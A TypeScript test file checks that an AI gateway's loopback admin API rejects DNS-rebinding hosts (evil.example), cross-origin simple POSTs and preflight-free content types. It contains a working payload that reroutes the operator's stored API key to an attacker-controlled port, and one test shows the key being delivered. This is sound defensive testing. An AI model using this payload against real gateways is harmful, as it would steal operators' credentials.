import assert from 'node:assert/strict';
import { request } from 'node:http';
import { after, before, describe, test } from 'node:test';
import { startFakeProvider, type FakeProvider } from '../support/fake-provider.js';
import { startGateway, type RunningGateway } from '../support/gateway-harness.js';
import { GATEWAY, route } from '../support/manifests.js';
import { seedManifest } from '../support/seed.js';

// What a web page the operator opens can send to the admin API on loopback: a "simple"
// cross-origin POST (text/plain, with an Origin), or anything at all after DNS rebinding
// (a Host naming the attacker's domain). None of it may change the config.

const VICTIM_KEY = 'sk-victim-SECRET-4444';
const ADMIN_TOKEN = 'admin-s3cret';

let provider: FakeProvider;
let attacker: FakeProvider;
before(async () => {
  provider = await startFakeProvider();
  attacker = await startFakeProvider();
});
after(async () => {
  await provider.close();
  await attacker.close();
});

const secretRefBackend = (name: string, port: number): string => `apiVersion: gateway.kgateway.dev/v1alpha1
kind: Backend
metadata: {name: ${name}, namespace: kgateway-system}
spec:
  type: AI
  ai: {llm: {host: 127.0.0.1, port: ${port}, openai: {authToken: {kind: SecretRef, secretRef: {name: openai-secret}}}}}
`;

/** The attack: a Backend reusing the operator's Secret towards the attacker's port, and a route to it. */
const payload = (): string => `${secretRefBackend('evil', attacker.port)}---\n${route('evil', '/evil', 'evil')}`;

function files(): Record<string, string> {
  return {
    'gateway.yaml': GATEWAY,
    'secret.yaml': seedManifest('secret.yaml', { OPENAI_API_KEY: VICTIM_KEY }),
    'backend.yaml': secretRefBackend('openai', provider.port),
    'route.yaml': route('openai', '/openai', 'openai'),
  };
}

/** A request with exactly these headers (fetch would not send a foreign Host). */
function send(url: string, method: string, headers: Record<string, string>, body?: string): Promise<{ status: number; code: string | undefined }> {
  return new Promise((resolve, reject) => {
    const req = request(url, { method, headers }, (res) => {
      let text = '';
      res.on('data', (c: Buffer) => (text += c.toString()));
      res.on('end', () => {
        let code: string | undefined;
        try {
          code = (JSON.parse(text) as { error?: { code?: string } }).error?.code;
        } catch {
          code = undefined;
        }
        resolve({ status: res.statusCode ?? 0, code });
      });
    });
    req.on('error', reject);
    req.end(body);
  });
}

async function assertUnchanged(gw: RunningGateway): Promise<void> {
  const got = (await (await fetch(`${gw.admin}/resources/Backend`, { headers: { authorization: `Bearer ${ADMIN_TOKEN}` } })).json()) as { items: { name: string }[] };
  assert.deepEqual(got.items.map((i) => i.name), ['openai'], 'no Backend was created');
  const res = await fetch(`${gw.url}/evil/chat/completions`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"model":"x","messages":[]}' });
  assert.equal(res.status, 404, 'no route to the attacker');
  assert.equal(attacker.received.length, 0, "the attacker's port received nothing");
}

for (const token of [undefined, ADMIN_TOKEN]) {
  describe(`the admin API ${token === undefined ? 'without' : 'with'} a token`, () => {
    let gw: RunningGateway;
    let port: string;
    before(async () => {
      gw = await startGateway({ files: files(), ...(token === undefined ? {} : { adminToken: token }) });
      port = new URL(gw.admin).port;
    });
    after(() => gw.stop());
    const auth = token === undefined ? {} : { authorization: `Bearer ${token}` };

    test('refuses a request whose Host is another name (DNS rebinding), even with the right token', async () => {
      const attack = await send(`${gw.admin}/apply`, 'POST', { ...auth, host: `evil.example:${port}`, 'content-type': 'application/yaml' }, payload());
      assert.deepEqual(attack, { status: 403, code: 'forbidden_host' });
      for (const path of ['/config', '/resources/Secret', '/metrics', '/healthz']) {
        assert.equal((await send(`${gw.admin}${path}`, 'GET', { ...auth, host: `evil.example:${port}` })).status, 403, path);
      }
      await assertUnchanged(gw);
    });

    test("refuses a request from another web page's origin", async () => {
      const attack = await send(`${gw.admin}/apply`, 'POST', { ...auth, origin: 'http://evil.example', 'content-type': 'text/plain' }, payload());
      assert.deepEqual(attack, { status: 403, code: 'forbidden_origin' });
      const localPage = await send(`${gw.admin}/apply`, 'POST', { ...auth, origin: 'http://localhost:3000', host: `localhost:${port}`, 'content-type': 'application/yaml' }, payload());
      assert.deepEqual(localPage, { status: 403, code: 'forbidden_origin' }, 'a page on another local port is another origin');
      assert.deepEqual(await send(`${gw.admin}/config`, 'GET', { ...auth, origin: 'null' }), { status: 403, code: 'forbidden_origin' });
      await assertUnchanged(gw);
    });

    test('refuses apply and delete bodies a page can send without a preflight', async () => {
      for (const type of ['text/plain', 'text/plain;charset=UTF-8', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x']) {
        const attack = await send(`${gw.admin}/apply`, 'POST', { ...auth, 'content-type': type }, payload());
        assert.deepEqual(attack, { status: 415, code: 'unsupported_media_type' }, type);
      }
      assert.equal((await send(`${gw.admin}/apply`, 'POST', { ...auth }, payload())).status, 415, 'no Content-Type');
      assert.equal((await send(`${gw.admin}/delete`, 'POST', { ...auth, 'content-type': 'text/plain' }, files()['backend.yaml'])).status, 415);
      await assertUnchanged(gw);
    });

    test('answers its own address, localhost, and pages it served itself', async () => {
      assert.equal((await send(`${gw.admin}/config`, 'GET', { ...auth })).status, 200);
      assert.equal((await send(`${gw.admin}/config`, 'GET', { ...auth, host: `localhost:${port}` })).status, 200);
      assert.equal((await send(`${gw.admin}/config`, 'GET', { ...auth, host: `localhost:${port}`, origin: `http://localhost:${port}` })).status, 200);
      assert.equal((await send(`${gw.admin}/config`, 'GET', { ...auth, origin: `http://127.0.0.1:${port}` })).status, 200);
      const json = await send(`${gw.admin}/apply`, 'POST', { ...auth, 'content-type': 'application/json' }, JSON.stringify({ apiVersion: 'v1', kind: 'Namespace', metadata: { name: 'team-json' } }));
      assert.equal(json.status, 200);
    });

    test('the same payload sent as the CLI sends it does deliver the key, which is what the checks above prevent', async () => {
      const applied = await send(`${gw.admin}/apply`, 'POST', { ...auth, 'content-type': 'application/yaml' }, payload());
      assert.equal(applied.status, 200);
      await fetch(`${gw.url}/evil/chat/completions`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"model":"x","messages":[]}' });
      assert.equal(attacker.received.at(-1)?.headers.authorization, `Bearer ${VICTIM_KEY}`);
      assert.equal((await send(`${gw.admin}/delete`, 'POST', { ...auth, 'content-type': 'application/yaml' }, payload())).status, 200);
      attacker.received.length = 0;
    });
  });
}

describe('--admin-allowed-hosts', () => {
  test('adds names a proxy or a dashboard reaches the admin API by; others stay refused', async () => {
    const gw = await startGateway({ files: files(), adminAllowedHosts: ['gateway-admin.internal'] });
    try {
      const port = new URL(gw.admin).port;
      assert.equal((await send(`${gw.admin}/config`, 'GET', { host: `gateway-admin.internal:${port}` })).status, 200);
      assert.equal((await send(`${gw.admin}/config`, 'GET', { host: 'GATEWAY-ADMIN.internal' })).status, 200, 'names compare without case');
      assert.equal((await send(`${gw.admin}/config`, 'GET', { origin: 'https://gateway-admin.internal' })).status, 200);
      assert.equal((await send(`${gw.admin}/config`, 'GET', { host: `evil.example:${port}` })).status, 403);
      assert.equal((await send(`${gw.admin}/config`, 'GET', { origin: 'https://evil.example' })).status, 403);
    } finally {
      await gw.stop();
    }
  });
});
